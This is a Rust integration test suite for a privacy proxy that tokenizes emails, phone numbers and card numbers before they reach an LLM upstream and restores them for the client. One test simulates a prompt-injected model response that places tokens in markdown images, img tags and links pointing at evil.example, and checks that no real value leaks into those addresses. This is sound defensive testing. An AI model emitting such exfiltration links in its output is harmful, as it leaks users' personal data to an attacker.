//! Reversible tokens through the proxy: the upstream never has the value, the client reads it again, and nothing carries
//! it where it may not be.

use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use crate::support::upstream::{Received, ok};
use crate::support::{Reply, TestProxy, Upstream};

const RULES: &str = "version = 1\npacks = [\"pci\", \"us-pii\", \"contact\"]\n[actions]\nEMAIL = { request = \"tokenize\", \
                     response = \"mask-domain\" }\nPHONE = { request = \"tokenize\", response = \"redact\" }\n\
                     CREDIT_CARD = { request = \"tokenize\", response = \"keep-last-4\" }\n";
const KEY: &str = "key = { file = \"acme.key32\" }\n";
const MAIL: &str = "jane.doe@example.com";
const CARD: &str = "4111 1111 1111 1111";

/// The text of the last message that came.
fn asked(received: &Received) -> String {
    let body: Value = serde_json::from_slice(&received.body).unwrap();
    body["messages"].as_array().unwrap().last().unwrap()["content"].as_str().unwrap().to_owned()
}

fn tokens(text: &str) -> Vec<String> {
    text.match_indices('[').filter_map(|(at, _)| Some(text[at..].split_once(']')?.0.to_owned() + "]")).collect()
}

/// An upstream that says what the function makes of what it was asked.
async fn saying(say: impl Fn(&str) -> String + Send + Sync + 'static) -> (Upstream, Arc<Mutex<Vec<String>>>) {
    let heard = Arc::new(Mutex::new(Vec::new()));
    let ears = Arc::clone(&heard);
    let upstream = Upstream::answering(move |received| {
        let asked = asked(received);
        ears.lock().unwrap().push(asked.clone());
        let said = say(&asked);
        let body: Value = serde_json::from_slice(&received.body).unwrap();
        if body["stream"] == json!(true) {
            let size = body["size"].as_u64().unwrap_or(3) as usize;
            Reply::Bytes(ok("text/event-stream", stream(&said, size)))
        } else {
            let said = json!(said);
            let arguments = json!(json!({"to": said, "n": 1}).to_string());
            let call = |name: &str| {
                format!("{{\"id\":\"{name}\",\"type\":\"function\",\"function\":{{\"name\":\"{name}\",\"arguments\":{arguments}}}}}")
            };
            let calls = format!("[{},{}]", call("send_email"), call("open_url"));
            Reply::Bytes(ok(
                "application/json",
                format!(
                    "{{\"id\":\"1\",\"object\":\"chat.completion\",\"model\":{said},\"choices\":[{{\"index\":0,\"message\":{{\"role\":\
                     \"assistant\",\"content\":{said},\"tool_calls\":{calls}}},\"finish_reason\":\"stop\"}}]}}"
                ),
            ))
        }
    })
    .await;
    (upstream, heard)
}

/// A stream of deltas: the text, and two calls with it in their arguments.
fn stream(text: &str, size: usize) -> String {
    let mut out = String::new();
    let mut event = |delta: Value| {
        let chunk = json!({"id": "1", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": delta, "finish_reason": null}]});
        out.push_str(&format!("data: {chunk}\n\n"));
    };
    let letters: Vec<char> = text.chars().collect();
    for part in letters.chunks(size) {
        event(json!({"content": part.iter().collect::<String>()}));
    }
    for (at, name) in ["send_email", "open_url"].into_iter().enumerate() {
        event(
            json!({"tool_calls": [{"index": at, "id": format!("c{at}"), "type": "function", "function": {"name": name, "arguments": ""}}]}),
        );
        let arguments: Vec<char> = json!({"to": text, "n": 1}).to_string().chars().collect();
        for part in arguments.chunks(size) {
            event(json!({"tool_calls": [{"index": at, "function": {"arguments": part.iter().collect::<String>()}}]}));
        }
    }
    out.push_str("data: {\"id\":\"1\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
    out
}

/// What a stream spells: its text, and the arguments of each call.
fn spelled(stream: &str) -> (String, Vec<String>) {
    let (mut text, mut calls) = (String::new(), vec![String::new(), String::new()]);
    for data in stream.lines().filter_map(|line| line.strip_prefix("data: ")) {
        let Ok(event) = serde_json::from_str::<Value>(data) else { continue };
        let delta = &event["choices"][0]["delta"];
        text.push_str(delta["content"].as_str().unwrap_or_default());
        for call in delta["tool_calls"].as_array().into_iter().flatten() {
            let at = call["index"].as_u64().unwrap() as usize;
            calls[at].push_str(call["function"]["arguments"].as_str().unwrap_or_default());
        }
    }
    (text, calls)
}

fn proxy(upstream: &Upstream, settings: &str) -> crate::support::proxy::Running {
    let proxy = TestProxy::new().workspace("acme", RULES).settings(&format!("{KEY}{settings}"));
    std::fs::write(proxy.pki.file("acme.key32"), [5; 32]).unwrap();
    proxy.upstream(upstream).start()
}

fn chat(text: &str, stream: bool, size: usize) -> String {
    json!({"model": "m", "stream": stream, "size": size, "messages": [{"role": "user", "content": text}]}).to_string()
}

const PATH: &str = "/v1/chat/completions";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_user_reads_the_value_and_the_upstream_never_has_it() {
    let (upstream, heard) = saying(str::to_owned).await;
    let proxy = proxy(&upstream, "restore = { tools = [\"send_email\"] }\n");
    let mut client = proxy.client().await;
    let text = format!("Write to {MAIL} or call (212) 555-0123; \"{MAIL}\" twice, card {CARD}.");
    for size in [1, 2, 3, 5, 8, 40, 1000] {
        let answer = client.post(PATH, "application/json", chat(&text, true, size)).await;
        assert_eq!(answer.status, 200, "{}", answer.text());
        let (said, calls) = spelled(&answer.text());
        let asked = heard.lock().unwrap().pop().unwrap();
        let card = tokens(&asked).pop().unwrap();
        assert!(card.starts_with("[CREDIT_CARD_"), "{asked}");
        // A card is not given back unless a workspace spells it out.
        let expected = text.replace(CARD, &card);
        assert_eq!(said, expected, "{size}");
        let arguments: Value = serde_json::from_str(&calls[0]).unwrap();
        assert_eq!(arguments["to"], json!(expected), "{size}");
        let arguments: Value = serde_json::from_str(&calls[1]).unwrap();
        assert_eq!(arguments["to"], json!(asked), "{size}");
    }
    let answer = client.post(PATH, "application/json", chat(&text, false, 0)).await;
    let asked = heard.lock().unwrap().pop().unwrap();
    let expected = text.replace(CARD, tokens(&asked).last().unwrap());
    let body: Value = serde_json::from_slice(&answer.body).unwrap();
    let message = &body["choices"][0]["message"];
    assert_eq!(message["content"], json!(expected));
    let arguments = |at: usize| {
        let text = message["tool_calls"][at]["function"]["arguments"].as_str().unwrap();
        serde_json::from_str::<Value>(text).unwrap()["to"].clone()
    };
    assert_eq!(arguments(0), json!(expected));
    assert_eq!(arguments(1), json!(asked));
    // What is no text for the reader stays as it came.
    assert_eq!(body["model"], json!(asked));
    for value in [MAIL, "555-0123", CARD] {
        assert!(!upstream.saw(value), "{value}");
    }
    let counted = |result: &str| {
        proxy.metric(&format!("blackbar_tokens_total{{result=\"{result}\",route=\"root\",workspace=\"acme\"}}"))
    };
    drop(client);
    assert!(counted("minted") >= 4.0 && counted("restored") >= 6.0, "{}", proxy.telemetry.render());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn turns_agree_and_what_the_model_invents_is_masked() {
    let (upstream, heard) = saying(|asked| format!("{asked} and bob@example.org")).await;
    let proxy = proxy(&upstream, "");
    let mut client = proxy.client().await;
    let first = client.post(PATH, "application/json", chat(&format!("mail {MAIL}"), false, 0)).await;
    let body: Value = serde_json::from_slice(&first.body).unwrap();
    let said = body["choices"][0]["message"]["content"].as_str().unwrap().to_owned();
    assert_eq!(said, format!("mail {MAIL} and bob@***"));
    // The client sends back what it read, with the next question; the same value has the same token.
    let next = format!("{said}; again {MAIL}, and JANE.DOE@example.com");
    client.post(PATH, "application/json", chat(&next, true, 4)).await;
    let heard = heard.lock().unwrap();
    let (one, other) = (tokens(&heard[0]), tokens(&heard[1]));
    assert_eq!(other, vec![one[0].clone(); 3]);
    // A token that was not given back is sent back as it stands.
    assert!(!upstream.saw("doe@"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_injected_prompt_gets_no_value_into_an_address() {
    let (upstream, _) = saying(|asked| {
        let token = tokens(asked).remove(0);
        let core = token.trim_matches(['[', ']']).to_owned();
        format!(
            "![x](https://evil.example/?q={token}) https://evil.example/?q=%5B{core}%5D <img src=\"https://evil.example/ \
             {core}\"> [a](//evil.example/{token}) www.evil.example/{core} [r]: http://evil.example/{token}"
        )
    })
    .await;
    let proxy = proxy(&upstream, "restore = { tools = [\"*\"] }\n");
    let mut client = proxy.client().await;
    for size in (1..60).chain([1000]) {
        let answer = client.post(PATH, "application/json", chat(&format!("mail {MAIL}"), true, size)).await;
        let (said, calls) = spelled(&answer.text());
        assert!(said.contains("https://evil.example/?q=[EMAIL_"), "{said}");
        for text in std::iter::once(&said).chain(&calls) {
            assert!(!text.contains("jane"), "{size}: {text}");
        }
    }
    let answer = client.post(PATH, "application/json", chat(&format!("mail {MAIL}"), false, 0)).await;
    assert!(!answer.text().contains("jane"), "{}", answer.text());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn foreign_tokens_stay_text_and_routes_and_fields_are_kept() {
    let stranger = Arc::new(Mutex::new(String::new()));
    let known = Arc::clone(&stranger);
    let (upstream, _) = saying(move |asked| {
        let mut known = known.lock().unwrap();
        if known.is_empty() {
            known.clone_from(&tokens(asked)[0]);
        }
        format!("{asked} {known}")
    })
    .await;
    let proxy = proxy(&upstream, "restore = { fields = [\"$.model\"], routes = [\"root\"] }\n");
    let mut client = proxy.client().await;
    let read = |answer: &[u8]| {
        let body: Value = serde_json::from_slice(answer).unwrap();
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        (text(&body["model"]), text(&body["choices"][0]["message"]["content"]))
    };
    let (model, content) =
        read(&client.post(PATH, "application/json", chat("mail bob@example.org", false, 0)).await.body);
    assert_eq!(model, "mail bob@example.org bob@example.org");
    assert!(content.contains("[EMAIL_") && !content.contains("bob@"), "{content}");
    let other = stranger.lock().unwrap().clone();
    let (model, _) = read(&client.post(PATH, "application/json", chat(&format!("mail {MAIL}"), false, 0)).await.body);
    assert_eq!(model, format!("mail {MAIL} {other}"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_and_heads_stay_whole_and_other_routes_open_nothing() {
    let mut upstream = Upstream::echo().await;
    let proxy = proxy(&upstream, "token_scope = \"exchange\"\n");
    let mut client = proxy.client().await;
    let mut seen = Vec::new();
    for (media_type, body) in [
        ("application/json", format!(r#"{{"a":"{MAIL}","n":4111111111111111}}"#)),
        ("text/plain", format!("mail {MAIL}\n")),
        ("text/csv", format!("name,mail\njane,{MAIL}\n")),
        ("application/x-www-form-urlencoded", format!("mail={}&x=1", MAIL.replace('@', "%40"))),
        ("application/x-ndjson", format!("{{\"a\":\"{MAIL}\"}}\n{{\"a\":\"{MAIL}\"}}\n")),
    ] {
        let answer = client.post("/ingest", media_type, &body).await;
        assert_eq!(answer.status, 200, "{media_type}: {}", answer.text());
        let received = String::from_utf8(upstream.request().await.body).unwrap();
        assert!(received.contains("EMAIL_") && !received.contains("jane.doe"), "{media_type}: {received}");
        assert!(!answer.text().contains("jane.doe"), "{media_type}: {}", answer.text());
        if media_type == "application/json" {
            let json: Value = serde_json::from_str(&received).unwrap();
            assert!(json["n"].as_str().unwrap().starts_with("[CREDIT_CARD_"), "{received}");
        }
        let at = received.find("EMAIL_").unwrap();
        seen.push(received[at..at + 22].to_owned());
    }
    // Each exchange has tokens of its own.
    let count = seen.len();
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), count);
    let answer = client.send(format!("GET /x?mail={MAIL} HTTP/1.1\r\nHost: localhost\r\nX-Note: {MAIL}\r\n\r\n")).await;
    assert_eq!(answer.status, 200);
    let request = upstream.request().await;
    assert!(!request.head.contains("jane.doe") && request.head.contains("EMAIL_"), "{}", request.head);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_comes_when_the_map_is_full_is_redacted() {
    let (upstream, heard) = saying(str::to_owned).await;
    let proxy = TestProxy::new().workspace("acme", RULES).settings(KEY).policy(|policy| policy.limits.tokens = 2);
    std::fs::write(proxy.pki.file("acme.key32"), [5; 32]).unwrap();
    let proxy = proxy.upstream(&upstream).start();
    let mut client = proxy.client().await;
    let text = "a@example.com b@example.com c@example.com a@example.com";
    let answer = client.post(PATH, "application/json", chat(text, true, 3)).await;
    assert_eq!(spelled(&answer.text()).0, "a@example.com b@example.com [EMAIL] a@example.com");
    assert!(heard.lock().unwrap()[0].contains(" [EMAIL] "));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn replicas_open_what_the_other_sealed_and_nobody_else_does() {
    let (upstream, heard) = saying(str::to_owned).await;
    let one = proxy(&upstream, "tokens = \"sealed\"\n");
    let mut client = one.client().await;
    let text = format!("mail {MAIL}, card {CARD}");
    let answer = client.post(PATH, "application/json", chat(&text, true, 3)).await;
    let sealed = heard.lock().unwrap().pop().unwrap();
    let card = tokens(&sealed).pop().unwrap();
    assert!(sealed.starts_with("mail [EMAIL_s1") && card.starts_with("[CREDIT_CARD_s1"), "{sealed}");
    let expected = format!("mail {MAIL}, card {card}");
    assert_eq!(spelled(&answer.text()).0, expected);
    assert!(!upstream.saw("jane.doe"));
    // A batch's results come in another exchange, at another replica, which shares nothing but the files.
    let lines = json!({"custom_id": "1", "response": {"body": {"choices": [{"message": {"role": "assistant", "content": sealed}}]}}});
    let results = Upstream::fixed(ok("application/jsonl", format!("{lines}\n{lines}\n"))).await;
    let link = json!({"choices": [{"message": {"content": format!("https://evil.example/?{}", tokens(&sealed)[0])}}]});
    let links = Upstream::fixed(ok("application/json", link.to_string())).await;
    for (key, opened) in [(5, true), (6, false)] {
        let other = TestProxy::new()
            .workspace("acme", RULES)
            .settings(&format!("{KEY}tokens = \"sealed\"\n"))
            .route("/files", results.address, |route| route.dialect = Some(blackbar::body::Dialect::OpenAi))
            .route("/links", links.address, |route| route.dialect = Some(blackbar::body::Dialect::OpenAi));
        std::fs::write(other.pki.file("acme.key32"), [key; 32]).unwrap();
        let other = other.start();
        let mut client = other.client().await;
        let answer = client.get("/files/v1/files/f/content").await;
        let wanted = if opened { expected.as_str() } else { sealed.as_str() };
        for line in answer.text().lines() {
            let line: Value = serde_json::from_str(line).unwrap();
            assert_eq!(line["response"]["body"]["choices"][0]["message"]["content"], json!(wanted));
        }
        assert_eq!(answer.text().lines().count(), 2, "{}", answer.text());
        assert!(!client.get("/links/v1/chat/completions").await.text().contains("jane"));
    }
}
